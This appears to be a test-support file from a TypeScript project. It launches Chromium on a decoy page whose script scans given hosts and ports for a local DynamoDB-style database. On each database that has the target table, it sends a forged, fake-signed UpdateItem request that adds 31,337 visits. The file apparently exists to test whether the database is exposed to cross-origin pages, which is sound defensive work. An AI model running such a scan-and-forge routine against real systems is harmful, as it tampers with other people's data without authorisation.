/** The attack on the database: a web page of another origin looks for it and, where it finds it, adds visits. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { TestContext } from 'node:test';
import { VISITOR_COUNT_KEY } from '../../../contract/tables.ts';
import { launchChromium } from '../../support/chromium.ts';

export const FORGED_VISITS = 31_337;

interface Scan {
  /** Host names as in a URL. */
  hosts: string[];
  ports: number[];
  /** Only a database with this table is attacked: others on this machine may be in use. */
  table: string;
}

interface Loot {
  /** Databases found: `http://127.0.0.1:40123`. */
  found: string[];
  /** Those to which visits were added. */
  forged: string[];
  requests: number;
}

/** Opens a page in Chromium whose script tries every host with every port. */
export async function attackFromPage(t: TestContext, scan: Scan): Promise<Loot> {
  const server = createServer((_request, response) =>
    response.setHeader('Content-Type', 'text/html').end('<!doctype html><title>A harmless page</title>'),
  ).listen(0, '127.0.0.1');
  const browser = await launchChromium();
  t.after(async () => {
    await browser.close();
    server.close();
  });
  const page = await browser.newPage();
  // tsx adds calls of this helper to the functions that it compiles.
  await page.addInitScript('globalThis.__name = (fn) => fn');
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  return page.evaluate(scanAndForge, { ...scan, key: VISITOR_COUNT_KEY, visits: FORGED_VISITS });
}

/** Runs in the page. */
async function scanAndForge({
  hosts,
  ports,
  table,
  key,
  visits,
}: Scan & { key: string; visits: number }): Promise<Loot> {
  const loot: Loot = { found: [], forged: [], requests: 0 };
  const call = async (origin: string, operation: string, input: object) => {
    const response = await fetch(origin, {
      method: 'POST',
      headers: {
        'Content-Type': 'application/x-amz-json-1.0',
        'X-Amz-Target': `DynamoDB_20120810.${operation}`,
        'X-Amz-Date': '20260101T000000Z',
        Authorization:
          'AWS4-HMAC-SHA256 Credential=any/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00',
      },
      body: JSON.stringify(input),
      signal: AbortSignal.timeout(2_000),
    });
    return (await response.json()) as { TableNames?: string[] };
  };
  const attack = async (origin: string) => {
    loot.requests++;
    let tables: string[] | undefined;
    try {
      ({ TableNames: tables } = await call(origin, 'ListTables', {}));
    } catch {
      return;
    }
    if (!tables?.includes(table)) return;
    loot.found.push(origin);
    const answer = await call(origin, 'UpdateItem', {
      TableName: table,
      Key: { [key]: { S: 'visits#0' } },
      UpdateExpression: 'ADD #count :n',
      ExpressionAttributeNames: { '#count': 'count' },
      ExpressionAttributeValues: { ':n': { N: String(visits) } },
    });
    if (!('__type' in answer)) loot.forged.push(origin);
  };
  const origins = hosts.flatMap((host) => ports.map((port) => `http://${host}:${port}`));
  await Promise.all(
    Array.from({ length: 100 }, async () => {
      for (let origin = origins.pop(); origin; origin = origins.pop()) await attack(origin);
    }),
  );
  return loot;
}
